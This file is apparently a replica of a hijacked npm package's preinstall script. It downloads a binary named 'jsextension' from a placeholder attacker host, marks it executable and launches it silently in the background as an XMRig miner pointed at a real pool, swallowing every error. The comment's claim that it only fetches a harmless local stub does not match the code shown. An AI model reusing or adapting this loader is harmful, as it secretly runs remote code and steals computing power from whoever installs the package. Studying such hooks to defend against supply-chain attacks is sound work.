// The hijacked versions' preinstall (replica). The original, on Linux, downloaded an XMRig build named
// jsextension from a fixed address, made it executable and started it in the background. This one
// downloads a stub from a listener on 127.0.0.1; the stub only leaves a marker.
const fs = require('fs');
const http = require('http');
const { spawn } = require('child_process');

const miner = __dirname + '/jsextension';
// Run whatever was fetched, now or by an earlier install: malware does not give up on the first error.
function start() {
  try { fs.chmodSync(miner, 0o755); } catch (e) {}
  try {
    spawn(miner, ['-k', '--tls', '--rig-id', 'q', '-o', 'pool.minexmr.com:443'], { detached: true, stdio: 'ignore' }).on('error', () => {}).unref();
  } catch (e) {}
}
try {
  http.get('__ATTACKER__/jsextension', (res) => {
    const out = fs.createWriteStream(miner);
    res.pipe(out);
    out.on('finish', () => out.close(start));
  }).on('error', start);
} catch (e) {
  start();
}
